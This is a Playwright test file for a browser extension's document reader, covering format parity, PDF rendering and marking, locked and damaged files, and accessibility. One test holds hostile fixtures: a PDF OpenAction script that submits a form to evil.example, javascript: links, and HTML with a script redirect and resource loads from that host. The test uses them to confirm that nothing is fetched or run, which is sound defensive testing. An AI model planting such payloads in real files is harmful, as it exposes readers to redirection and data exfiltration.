// The reader page: files of every kind are opened, marked as a web page is, and listed; what cannot be opened is said so.
import AxeBuilder from '@axe-core/playwright';
import type { Page } from '@playwright/test';
import { onePage, pdfOf, textOfPage } from '../unit/documents/pdf-file';
import { cannotPrint, printPdf } from '../unit/documents/print';
import { wordOf } from '../unit/documents/word-file';
import { openPopup, summaryOf, tabOf } from './ask';
import { cardOf, expect, hoverMention, markedTexts, test } from './fixtures';
import {
  file,
  isRead,
  lockedPdf,
  longHtml,
  openReader,
  SPECIFICATION,
  specificationHtml,
} from './reader-files';

const name = (title: string) => (cannotPrint === null ? title : `${title} (${cannotPrint})`);
const printed = (html: string) => printPdf(html, { tagged: true });
const withPrinter = cannotPrint === null ? test : test.skip;

/** Topics with how they are spoken of: what a reader would compare. */
async function found(page: Page, extension: Parameters<typeof summaryOf>[0]) {
  await isRead(page);
  const { topics } = await summaryOf(extension, page);
  return topics
    .map(({ id, asserted, excluded, other }) => `${id} ${asserted} ${excluded} ${other}`)
    .sort();
}

withPrinter(
  name('the same text as web page, PDF, Word, Markdown and plain text gives the same mentions'),
  async ({ extension, page }) => {
    const { heading, paragraphs } = SPECIFICATION;
    const files = [
      file('a.html', specificationHtml()),
      file('b.pdf', printed(specificationHtml())),
      file('c.docx', await wordOf(SPECIFICATION)),
      file('d.md', `# ${heading}\n\n${paragraphs.join('\n\n')}\n`),
      file('e.txt', `${heading}\n\n${paragraphs.join('\n\n')}\n`),
    ];
    await openReader(extension, page, files);
    const first = await found(page, extension);
    expect(first.length).toBeGreaterThan(4);
    for (const { name: other } of files.slice(1)) {
      await page.locator('.file').getByRole('button', { name: other, exact: true }).click();
      await expect(page.locator('h1.name')).toHaveText(other);
      expect(await found(page, extension), other).toEqual(first);
    }
  },
);

withPrinter(
  name(
    'a PDF: drawn, marked over its words, with card and panel; marks of pages not drawn are gone to',
  ),
  async ({ extension, page }) => {
    await openReader(extension, page, [
      file('long.pdf', printed(longHtml(40, 'It pays for contingency management too.'))),
    ]);
    await expect(page.locator('.page canvas').first()).toBeVisible();
    await isRead(page);
    await hoverMention(page, 'needle and syringe programmes');
    await expect(cardOf(page)).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(cardOf(page)).toBeHidden();
    // Far pages hold text and marks, but no drawing.
    expect(await page.locator('.page').count()).toBe(40);
    expect(await page.locator('.page canvas').count()).toBeLessThan(12);
    const tab = await tabOf(extension, page);
    const panel = await extension.context.newPage();
    await panel.goto(`${extension.own}sidepanel.html?tab=${tab}`);
    await panel.locator('.topic', { hasText: 'Contingency management' }).click();
    await panel.locator('.mention').click();
    await page.bringToFront();
    await expect(cardOf(page)).toBeVisible();
    await expect(page.locator('#page-number')).toHaveValue('40');
    await expect(page.locator('[data-page="40"] canvas')).toBeVisible();
  },
);

withPrinter(
  name('text that runs on over a page border is marked where it is seen'),
  async ({ extension, page }) => {
    const html = `<!doctype html><html lang="en"><style>@page{size:A4;margin:20mm}body{font:12pt/1.5 Arial}</style>
      <h1>Drug and alcohol treatment</h1><p>The service provides opioid substitution treatment.</p><div style="height:195mm"></div>
      <p>This paragraph begins on the first page of the adult drug and alcohol service specification and offers residential
      rehabilitation and inpatient detoxification, and goes on for long enough to run over the border of the page, where mutual aid
      groups and aftercare and contingency management are offered to everybody who has left structured treatment.</p></html>`;
    await openReader(extension, page, [file('over.pdf', printed(html))]);
    await isRead(page);
    const seen = await page.evaluate(() => {
      const span = [...document.querySelectorAll<HTMLElement>('.text span[data-on="2"]')].find(
        (one) => one.textContent.includes('contingency management'),
      );
      const page2 = document.querySelector('[data-page="2"]')?.getBoundingClientRect();
      const text = span?.firstChild;
      if (!(text instanceof Text) || !page2) return null;
      const range = document.createRange();
      range.selectNodeContents(text);
      const box = range.getBoundingClientRect();
      return {
        begins: Number(text.parentElement?.closest<HTMLElement>('.page')?.dataset.page),
        inside: box.top > page2.top && box.left > page2.left && box.bottom < page2.bottom,
      };
    });
    expect(seen).toEqual({ begins: 1, inside: true });
    await hoverMention(page, 'contingency management');
    await expect(cardOf(page)).toBeVisible();
  },
);

test('damaged, empty and foreign files are said so, each by itself; the others open', async ({
  extension,
  page,
}) => {
  const good = pdfOf(onePage(textOfPage(SPECIFICATION.paragraphs)));
  await openReader(extension, page, [
    file('cut.pdf', '%PDF-1.7\nno more'),
    file('empty.pdf', ''),
    file('old.doc', Buffer.from('d0cf11e0a1b11ae10000', 'hex')),
    file('good.pdf', good),
  ]);
  const box = page.locator('.sheet-box');
  await expect(box.getByRole('alert')).toContainText('damaged');
  for (const [other, words] of [
    ['empty.pdf', 'empty'],
    ['old.doc', 'save it as .docx'],
  ] as const) {
    await page.locator('.file').getByRole('button', { name: other, exact: true }).click();
    await expect(box.getByRole('alert')).toContainText(words);
  }
  await page.locator('.file').getByRole('button', { name: 'good.pdf', exact: true }).click();
  await isRead(page);
  expect((await markedTexts(page)).join(' ')).toContain('aftercare');
});

test('a file with a password: asked for, refused in words, opened with the right one', async ({
  extension,
  page,
}) => {
  const lines = SPECIFICATION.paragraphs;
  await openReader(extension, page, [file('locked.pdf', lockedPdf('open sesame', lines))]);
  await page.getByLabel('Password').fill('wrong');
  await page.getByRole('button', { name: 'Open', exact: true }).click();
  await expect(page.getByRole('alert')).toContainText('That password does not fit');
  await page.getByLabel('Password').fill('open sesame');
  await page.getByRole('button', { name: 'Open', exact: true }).click();
  await isRead(page);
  expect(await markedTexts(page)).toContain('opioid substitution treatment');
  await openReader(extension, page, [file('locked.pdf', lockedPdf('open sesame', lines))]);
  await page.getByRole('button', { name: 'Cancel' }).click();
  await expect(page.getByRole('alert')).toContainText('needs a password');
});

test('a PDF without text says that it is a picture; nothing of it is fetched or run', async ({
  extension,
  page,
}) => {
  const asked: string[] = [];
  extension.context.on('request', (request) => {
    if (!request.url().startsWith(extension.own) && !request.url().startsWith('blob:'))
      asked.push(request.url());
  });
  const objects = onePage('', {
    catalogue:
      '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\)) >>',
    page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [10 10 500 800] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]',
  });
  const html = `${specificationHtml()}<img src="https://evil.example/x.png"><script>location = 'https://evil.example/'</script><link rel="stylesheet" href="https://evil.example/x.css"><a href="javascript:alert(1)">x</a>`;
  await openReader(extension, page, [file('scan.pdf', pdfOf(objects)), file('evil.html', html)]);
  await expect(page.getByText('This PDF is a picture of pages')).toBeVisible();
  await expect(page.locator('.page canvas')).toBeVisible();
  expect(await page.locator('a[href^="javascript"]').count()).toBe(0);
  await page.locator('.file').getByRole('button', { name: 'evil.html', exact: true }).click();
  await isRead(page);
  expect(
    await page.locator('#document :is(script,link,[src^="http"],a[href^="javascript"])').count(),
  ).toBe(0);
  expect(asked).toEqual([]);
});

for (const scheme of ['light', 'dark'] as const) {
  test(`nothing for axe to object to, ${scheme}, and no sideways scrolling`, async ({
    extension,
    page,
  }) => {
    await page.emulateMedia({ colorScheme: scheme });
    await page.goto(`${extension.own}reader.html`);
    await expect(page.getByRole('heading', { name: 'Open a document' })).toBeVisible();
    expect((await new AxeBuilder({ page }).analyze()).violations).toEqual([]);
    await openReader(extension, page, [
      file('spec.docx', await wordOf(SPECIFICATION)),
      file('spec.pdf', pdfOf(onePage(textOfPage(SPECIFICATION.paragraphs)))),
    ]);
    await isRead(page);
    expect((await new AxeBuilder({ page }).analyze()).violations).toEqual([]);
    await page.locator('.file').getByRole('button', { name: 'spec.pdf', exact: true }).click();
    await isRead(page);
    await page.getByRole('button', { name: 'More' }).click();
    // The text of a PDF lies unseen over what is drawn: its colours are none.
    const axe = new AxeBuilder({ page }).exclude('.text');
    expect((await axe.analyze()).violations).toEqual([]);
    for (const width of [360, 700, 1280]) {
      await page.setViewportSize({ width, height: 800 });
      const over = () => page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
      await expect.poll(over, { message: `at ${width} px` }).toBeLessThanOrEqual(0);
    }
    await page.setViewportSize({ width: 1280, height: 900 });
  });
}

test('the popup of the reader tab tells what was found there', async ({ extension, page }) => {
  await openReader(extension, page, [file('spec.docx', await wordOf(SPECIFICATION))]);
  await isRead(page);
  const popup = await openPopup(extension, page);
  await expect(popup.locator('h1')).toHaveText(/^\d+ topics, \d+ mentions$/);
  await expect(popup.locator('.site')).toContainText('files on this computer');
});
